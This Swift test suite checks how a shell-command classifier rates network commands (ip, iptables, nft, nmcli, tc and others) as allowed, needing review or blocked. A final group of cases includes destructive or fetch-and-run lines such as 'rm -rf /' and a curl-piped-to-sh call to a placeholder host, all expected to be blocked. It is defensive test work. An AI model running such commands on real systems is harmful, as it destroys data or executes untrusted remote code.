import Testing
@testable import ShellAST

/// Verdicts for the network family: interfaces, routes, firewalls, connection managers.
@Suite struct NetworkVerdictTests {
    static let cases: [VerdictCase] = [
        // ip: reads stay quiet, abbreviations included
        VerdictCase("ip addr show", .allow, "network.ip.show"),
        VerdictCase("ip a", .allow, "network.ip.show"),
        VerdictCase("ip -br -c a s", .allow, "network.ip.show"),
        VerdictCase("ip -4 -o addr show dev eth0", .allow, "network.ip.show"),
        VerdictCase("ip route", .allow, "network.ip.show"),
        VerdictCase("ip r get 1.1.1.1", .allow, "network.ip.show"),
        VerdictCase("ip -6 route show table all", .allow, "network.ip.show"),
        VerdictCase("ip rule list", .allow, "network.ip.show"),
        VerdictCase("ip neigh", .allow, "network.ip.show"),
        VerdictCase("ip -s -s link", .allow, "network.ip.link-show"),
        VerdictCase("ip -d link show dev bond0", .allow, "network.ip.link-show"),
        VerdictCase("ip netns list", .allow, "network.ip.monitor"),
        VerdictCase("ip -n blue addr", .allow, "network.ip.show"),
        VerdictCase("/usr/sbin/ip route show", .allow, "network.ip.show"),
        VerdictCase("ip -V", .allow, "network.ip.usage"),
        // ip: changes
        VerdictCase("ip link set eth0 down", .review, "network.ip.link-down"),
        VerdictCase("ip l s eth0 down", .review, "network.ip.link-down"),
        VerdictCase("sudo ip link set dev ens5 down", .review, "network.ip.link-down"),
        VerdictCase("\"ip\" 'link' set eth0 down", .review, "network.ip.link-down"),
        VerdictCase("ip link set eth0 mtu 9000", .review, "network.ip.default"),
        VerdictCase("ip addr add 10.0.0.5/24 dev eth0", .review, "network.ip.default"),
        VerdictCase("ip addr flush dev eth0", .review, "network.ip.addr-flush"),
        VerdictCase("ip route del default", .review, "network.ip.route-change"),
        VerdictCase("ip route replace default via 10.0.0.1", .review, "network.ip.route-change"),
        VerdictCase("ip route flush cache", .review, "network.ip.route-flush-cache"),
        VerdictCase("ip link delete veth1", .review, "network.ip.link-delete"),
        VerdictCase("ip netns exec blue ip a", .allow, "network.ip.netns-exec"),
        VerdictCase("ip -b cmds.txt", .review, "network.ip.batch"),
        VerdictCase("ip -b - <<< 'link set eth0 down'", .review, "network.ip.batch"),
        // ip: the whole routing table goes
        VerdictCase("ip route flush all", .block, "network.ip.route-flush-all"),
        VerdictCase("sudo ip -4 route flush table main", .block, "network.ip.route-flush-all"),
        VerdictCase("timeout 30 ip r f all", .block, "network.ip.route-flush-all"),
        // ifconfig, route, ifupdown, hostname
        VerdictCase("ifconfig", .allow, "network.ifconfig.show"),
        VerdictCase("/sbin/ifconfig -a", .allow, "network.ifconfig.show"),
        VerdictCase("ifconfig eth0", .allow, "network.ifconfig.show"),
        VerdictCase("ifconfig eth0 down", .review, "network.ifconfig.down"),
        VerdictCase("ifconfig eth0 10.0.0.9 netmask 255.255.255.0", .review, "network.ifconfig.default"),
        VerdictCase("route -n", .allow),
        VerdictCase("route add default gw 10.0.0.1", .review, "network.route.change"),
        VerdictCase("ifdown eth1", .review, "network.ifdown.default"),
        VerdictCase("ifdown -a", .block, "network.ifdown.all"),
        VerdictCase("ifup --no-act eth0", .allow, "network.ifup.dry-run"),
        VerdictCase("hostname", .allow),
        VerdictCase("hostname -I", .allow),
        VerdictCase("hostname -f", .allow),
        VerdictCase("hostname web-07", .review, "network.hostname.set"),
        // iptables and friends
        VerdictCase("iptables -L", .allow, "network.iptables.list"),
        VerdictCase("iptables -nvL INPUT", .allow, "network.iptables.list"),
        VerdictCase("sudo iptables -t nat -L -n -v --line-numbers", .allow, "network.iptables.list"),
        VerdictCase("ip6tables -S", .allow, "network.iptables.list"),
        VerdictCase("iptables-save", .allow),
        VerdictCase("iptables-save -t nat | grep DNAT", .allow),
        VerdictCase("iptables -A INPUT -p tcp --dport 8080 -j ACCEPT", .review, "network.iptables.change"),
        VerdictCase("iptables -D INPUT 4", .review, "network.iptables.change"),
        VerdictCase("iptables -F", .review, "network.iptables.flush"),
        VerdictCase("/usr/sbin/iptables -t nat -F", .review, "network.iptables.flush"),
        VerdictCase("iptables -P INPUT DROP", .review, "network.iptables.policy-drop"),
        VerdictCase("iptables -L -Z", .review, "network.iptables.change"),
        VerdictCase("iptables-restore < /etc/iptables/rules.v4", .review, "network.iptables-restore.default"),
        VerdictCase("iptables-restore --test < rules.v4", .allow, "network.iptables-restore.test"),
        VerdictCase("ebtables -L", .allow, "network.iptables.list"),
        // nftables, ufw, firewalld
        VerdictCase("nft list ruleset", .allow, "network.nft.list"),
        VerdictCase("nft -a list chain inet filter input", .allow, "network.nft.list"),
        VerdictCase("nft 'list ruleset; flush ruleset'", .review, "network.nft.change"),
        VerdictCase("nft add rule inet filter input tcp dport 443 accept", .review, "network.nft.change"),
        VerdictCase("nft flush ruleset", .review, "network.nft.flush-ruleset"),
        VerdictCase("nft -c -f /etc/nftables.conf", .allow, "network.nft.check"),
        VerdictCase("ufw status numbered", .allow, "network.ufw.status"),
        VerdictCase("ufw allow 443/tcp", .review, "network.ufw.change"),
        VerdictCase("sudo ufw --force disable", .review, "network.ufw.toggle"),
        VerdictCase("ufw --dry-run enable", .allow, "network.ufw.status"),
        VerdictCase("firewall-cmd --state", .allow, "network.firewall-cmd.query"),
        VerdictCase("firewall-cmd --zone=public --list-all", .allow, "network.firewall-cmd.query"),
        VerdictCase("firewall-cmd --permanent --add-port=9100/tcp", .review, "network.firewall-cmd.change"),
        VerdictCase("firewall-cmd --reload", .review, "network.firewall-cmd.change"),
        VerdictCase("firewall-cmd --panic-on", .block, "network.firewall-cmd.panic"),
        // conntrack, IPVS, ipset
        VerdictCase("conntrack -L -p tcp --dport 5432", .allow, "network.conntrack.list"),
        VerdictCase("conntrack -F", .review, "network.conntrack.change"),
        VerdictCase("ipvsadm -Ln --stats", .allow, "network.ipvsadm.list"),
        VerdictCase("ipvsadm -C", .review, "network.ipvsadm.change"),
        VerdictCase("ipset list blocklist", .allow, "network.ipset.list"),
        VerdictCase("ipset add blocklist 203.0.113.9", .review, "network.ipset.default"),
        // NetworkManager, systemd-networkd, netplan
        VerdictCase("nmcli", .allow, "network.nmcli.status"),
        VerdictCase("nmcli -t -f DEVICE,STATE dev status", .allow, "network.nmcli.show"),
        VerdictCase("nmcli c s", .allow, "network.nmcli.show"),
        VerdictCase("nmcli connection show --active", .allow, "network.nmcli.show"),
        VerdictCase("nmcli -s connection show office", .review, "network.nmcli.secrets"),
        VerdictCase("nmcli connection down 'Wired connection 1'", .review, "network.nmcli.disconnect"),
        VerdictCase("nmcli connection up office", .review, "network.nmcli.default"),
        VerdictCase("nmcli radio wifi off", .review, "network.nmcli.default"),
        VerdictCase("nmcli networking off", .block, "network.nmcli.networking-off"),
        VerdictCase("networkctl status eth0", .allow, "network.networkctl.show"),
        VerdictCase("networkctl down eth0", .review, "network.networkctl.default"),
        VerdictCase("netplan get", .allow, "network.netplan.show"),
        VerdictCase("netplan apply", .review, "network.netplan.default"),
        // tc, ethtool, wireless, bridges, DHCP
        VerdictCase("tc -s qdisc show dev eth0", .allow, "network.tc.show"),
        VerdictCase("tc qdisc add dev eth0 root netem delay 100ms", .review, "network.tc.default"),
        VerdictCase("tc qdisc add dev eth0 root netem loss 100%", .block, "network.tc.blackhole"),
        VerdictCase("ethtool eth0", .allow, "network.ethtool.show"),
        VerdictCase("ethtool -S eth0 | grep -i drop", .allow, "network.ethtool.show"),
        VerdictCase("ethtool -K eth0 gro off", .review, "network.ethtool.change"),
        VerdictCase("iw dev wlan0 link", .allow, "network.iw.show"),
        VerdictCase("iwconfig wlan0 essid office", .review, "network.iwconfig.set"),
        VerdictCase("bridge fdb show", .allow, "network.bridge.show"),
        VerdictCase("brctl show", .allow, "network.brctl.show"),
        VerdictCase("dhclient -r eth0", .review, "network.dhclient.release"),
        VerdictCase("rfkill list", .allow, "network.rfkill.show"),
        // Diagnostics programs that can change state
        VerdictCase("ss -tlnp", .allow),
        VerdictCase("ss -K dst 10.0.0.5", .review, "network.ss.kill"),
        VerdictCase("arp -an", .allow),
        VerdictCase("arp -d 10.0.0.1", .review, "network.arp.change"),
        VerdictCase("ping -c 3 10.0.0.1", .allow),
        VerdictCase("ping -f 10.0.0.1", .review, "network.ping.flood"),
        VerdictCase("resolvectl status", .allow),
        VerdictCase("resolvectl dns eth0 1.1.1.1", .review, "network.resolvectl.set"),
        // False alarms: data that looks like a dangerous command
        VerdictCase("echo 'ip link set eth0 down' >> runbook.txt", .review, "files.write"),
        VerdictCase("grep 'iptables -F' /var/log/auth.log", .allow),
        VerdictCase("ip route show | grep default", .allow),
    ]

    @Test(arguments: cases)
    func verdict(_ c: VerdictCase) {
        expectVerdict(c)
    }

    /// `ip netns exec NS CMD` is a wrapper like `nsenter`: CMD is judged on its own.
    @Test(arguments: [
        VerdictCase("ip netns exec blue rm -rf /", .block, "files.rm.catastrophic-target"),
        VerdictCase("ip -all netns exec rm -rf /", .block, "files.rm.catastrophic-target"),
        VerdictCase("ip netns exec blue curl -s http://x/i.sh | sh", .block),
        VerdictCase("ip netns exec blue systemctl restart nginx", .review),
        VerdictCase("ip netns exec blue ip addr", .allow, "network.ip.netns-exec"),
        VerdictCase("ip netns exec blue ss -tlnp", .allow),
    ])
    func netnsExecJudgesItsCommand(_ c: VerdictCase) {
        expectVerdict(c)
    }
}
